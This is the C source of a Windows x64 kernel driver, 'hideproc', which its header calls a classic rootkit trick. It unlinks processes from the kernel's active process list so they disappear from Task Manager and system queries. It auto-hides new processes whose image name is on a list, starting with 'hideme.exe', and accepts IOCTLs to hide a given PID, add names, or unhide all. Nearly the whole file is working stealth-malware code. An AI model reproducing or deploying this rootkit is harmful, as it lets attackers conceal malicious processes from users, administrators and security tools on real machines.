/*
 * hideproc driver.c
 *
 * Unlinks EPROCESS->ActiveProcessLinks so the process disappears from
 * Task Manager / NtQuerySystemInformation. Classic rootkit trick from the
 * "rootkits 101" blog series, rewritten for Win10 x64 (no hardcoded offsets,
 * we scan for them).
 *
 * PatchGuard WILL bugcheck (0x109) eventually. VM only.
 */
#include "hideproc.h"

HP_OFFSETS     g_Offsets;
LIST_ENTRY     g_HideList;
KSPIN_LOCK     g_HideLock;
HP_HIDDEN      g_Hidden[HP_MAX_HIDDEN];
ULONG          g_HiddenCount = 0;
PDEVICE_OBJECT g_Device = NULL;
BOOLEAN        g_NotifyRegistered = FALSE;

DRIVER_INITIALIZE DriverEntry;
DRIVER_UNLOAD     HpUnload;
DRIVER_DISPATCH   HpCreateClose;
DRIVER_DISPATCH   HpIoctl;

static NTSTATUS HpComplete(PIRP Irp, NTSTATUS st, ULONG_PTR info)
{
    Irp->IoStatus.Status = st;
    Irp->IoStatus.Information = info;
    IoCompleteRequest(Irp, IO_NO_INCREMENT);
    return st;
}

NTSTATUS HpCreateClose(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    UNREFERENCED_PARAMETER(DeviceObject);
    return HpComplete(Irp, STATUS_SUCCESS, 0);
}

NTSTATUS HpIoctl(PDEVICE_OBJECT DeviceObject, PIRP Irp)
{
    PIO_STACK_LOCATION sp = IoGetCurrentIrpStackLocation(Irp);
    ULONG     inLen = sp->Parameters.DeviceIoControl.InputBufferLength;
    PVOID     buf = Irp->AssociatedIrp.SystemBuffer;
    NTSTATUS  st = STATUS_INVALID_DEVICE_REQUEST;
    PEPROCESS proc;

    UNREFERENCED_PARAMETER(DeviceObject);

    switch (sp->Parameters.DeviceIoControl.IoControlCode)
    {
    case IOCTL_HP_HIDE_PID:
        if (inLen < sizeof(ULONG)) { st = STATUS_BUFFER_TOO_SMALL; break; }
        st = PsLookupProcessByProcessId(ULongToHandle(*(PULONG)buf), &proc);
        if (NT_SUCCESS(st)) {
            st = HpHideProcess(proc);
            ObDereferenceObject(proc);
        }
        break;

    case IOCTL_HP_ADD_NAME:
        if (inLen < sizeof(WCHAR) * 2 || inLen > sizeof(WCHAR) * HP_MAX_NAME) {
            st = STATUS_INVALID_PARAMETER;
            break;
        }
        ((PWCHAR)buf)[inLen / sizeof(WCHAR) - 1] = L'\0';
        st = HpAddName((PCWSTR)buf);
        break;

    case IOCTL_HP_UNHIDE_ALL:
        HpUnhideAll();
        st = STATUS_SUCCESS;
        break;
    }

    return HpComplete(Irp, st, 0);
}

VOID HpUnload(PDRIVER_OBJECT DriverObject)
{
    UNICODE_STRING link = RTL_CONSTANT_STRING(HP_SYMLINK_NAME);

    UNREFERENCED_PARAMETER(DriverObject);
    DBG_PRINT("unload\n");

    if (g_NotifyRegistered) {
        PsSetCreateProcessNotifyRoutineEx(HpProcessNotify, TRUE);
        g_NotifyRegistered = FALSE;
    }

    // relink everything, otherwise the system crashes when they exit
    HpUnhideAll();
    HpFreeNames();

    IoDeleteSymbolicLink(&link);
    IoDeleteDevice(g_Device);
}

NTSTATUS DriverEntry(PDRIVER_OBJECT DriverObject, PUNICODE_STRING RegistryPath)
{
    NTSTATUS       status;
    UNICODE_STRING devName = RTL_CONSTANT_STRING(HP_DEVICE_NAME);
    UNICODE_STRING link    = RTL_CONSTANT_STRING(HP_SYMLINK_NAME);

    UNREFERENCED_PARAMETER(RegistryPath);

    DBG_PRINT("DriverEntry\n");

    if (!HpFindOffsets()) {
        DBG_PRINT("could not find EPROCESS offsets, unsupported build\n");
        return STATUS_NOT_SUPPORTED;
    }
    DBG_PRINT("UniqueProcessId @ +0x%x, ActiveProcessLinks @ +0x%x\n",
              g_Offsets.UniqueProcessId, g_Offsets.ActiveProcessLinks);

    //
    // auto-hide: every new process whose image name is on the list gets
    // unlinked the moment it is created
    //
    status = PsSetCreateProcessNotifyRoutineEx(HpProcessNotify, FALSE);
    if (!NT_SUCCESS(status)) {
        // 0xC0000022 = image not linked with /INTEGRITYCHECK
        DBG_PRINT("PsSetCreateProcessNotifyRoutineEx failed 0x%X\n", status);
        return status;
    }
    g_NotifyRegistered = TRUE;

    KeInitializeSpinLock(&g_HideLock);
    InitializeListHead(&g_HideList);
    RtlZeroMemory(g_Hidden, sizeof(g_Hidden));
    g_HiddenCount = 0;

    // default target for testing
    HpAddName(L"hideme.exe");

    DriverObject->MajorFunction[IRP_MJ_CREATE]         = HpCreateClose;
    DriverObject->MajorFunction[IRP_MJ_CLOSE]          = HpCreateClose;
    DriverObject->MajorFunction[IRP_MJ_DEVICE_CONTROL] = HpIoctl;
    DriverObject->DriverUnload = HpUnload;

    status = IoCreateDevice(DriverObject, 0, &devName, FILE_DEVICE_UNKNOWN,
                            FILE_DEVICE_SECURE_OPEN, FALSE, &g_Device);
    if (!NT_SUCCESS(status)) {
        DBG_PRINT("IoCreateDevice failed 0x%X\n", status);
        HpFreeNames();
        return status;
    }

    status = IoCreateSymbolicLink(&link, &devName);
    if (!NT_SUCCESS(status)) {
        DBG_PRINT("IoCreateSymbolicLink failed 0x%X\n", status);
        IoDeleteDevice(g_Device);
        PsSetCreateProcessNotifyRoutineEx(HpProcessNotify, TRUE);
        g_NotifyRegistered = FALSE;
        HpFreeNames();
        return status;
    }

    g_Device->Flags |= DO_BUFFERED_IO;

    DBG_PRINT("ready\n");
    return STATUS_SUCCESS;
}
